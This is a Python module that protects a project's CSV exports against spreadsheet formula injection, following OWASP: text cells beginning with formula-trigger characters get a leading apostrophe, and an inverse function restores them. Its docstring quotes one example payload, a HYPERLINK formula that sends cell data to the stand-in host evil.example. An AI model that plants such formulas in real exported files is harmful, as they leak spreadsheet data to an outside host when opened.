"""CSV cells a spreadsheet opens as data, never as a formula.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or
``@`` (and, after a TAB or CR, whatever follows) as a formula: a commitment named
``=HYPERLINK("https://evil.example/?"&A1,"x")`` would send the sheet's data away when
someone opens hdr's CSV. Following OWASP, such a *text* cell gets a leading ``'``, which
spreadsheets take for "this is text" and show without running anything.

What is text is decided by the value's Python type, never by looking at the text: a
number (``int``, ``float``, ``Decimal``) stays a plain number even when negative
(``-16.7``); a figure that must keep its decimals goes through ``fixed``. A text that
already starts with ``'`` before one of those characters gets one more, so
``csv_text_back`` always returns exactly what the user wrote (``hdr importar`` reads
``hdr exportar``'s CSV back through it). JSON is never touched: it is not run.

Every CSV hdr writes starts with ``BOM``: without it Excel reads UTF-8 as the system's
code page and garbles accents («SecretarÃ­a»). Python reads such a file back with
``encoding="utf-8-sig"``.
"""

from __future__ import annotations

import re
from decimal import Decimal

from hojaderuta.text.safetext import plain

# Characters that make a spreadsheet run a cell (OWASP CSV injection), after any
# apostrophes hdr or the user put first.
_RUNNERS = "=+-@\t\r"
_RUNS = re.compile(f"'*[{re.escape(_RUNNERS)}]")
_NEUTRALISED = re.compile(f"'+[{re.escape(_RUNNERS)}]")
# The first characters _RUNS can match: most cells start with none of them, and a
# membership test is cheaper than a regex.
_RUN_STARTS = "'" + _RUNNERS

# The byte order mark that opens every CSV hdr writes (UTF-8: EF BB BF), so that Excel
# opens it as UTF-8.
BOM = "\ufeff"


def csv_text(text: str) -> str:
    """A text cell as a spreadsheet must read it: inert, and writable as UTF-8."""
    return inert_text(plain(text))


def inert_text(text: str) -> str:
    """``csv_text`` without the UTF-8 repair: for a caller that checks its whole output
    for bytes that were not UTF-8 (``has_surrogates``) and writes it again with
    ``csv_text`` when there are any."""
    return "'" + text if text[:1] in _RUN_STARTS and _RUNS.match(text) else text


def csv_cell(value: object) -> object:
    """One cell: text is neutralised (``csv_text``); numbers and the rest stay as they are."""
    if isinstance(value, str):
        return csv_text(value)
    return value


def csv_row(values: list[object]) -> list[object]:
    """A CSV row with every text cell neutralised (see ``csv_cell``)."""
    return [csv_cell(v) for v in values]


def csv_text_back(text: str) -> str:
    """What the user wrote, from a cell ``csv_text`` wrote (its inverse)."""
    return text[1:] if _NEUTRALISED.match(text) else text


def fixed(value: float, places: int = 2) -> Decimal:
    """A number with exactly ``places`` decimals (``12.50``), written as a number in CSV."""
    return Decimal(f"{value:.{places}f}")
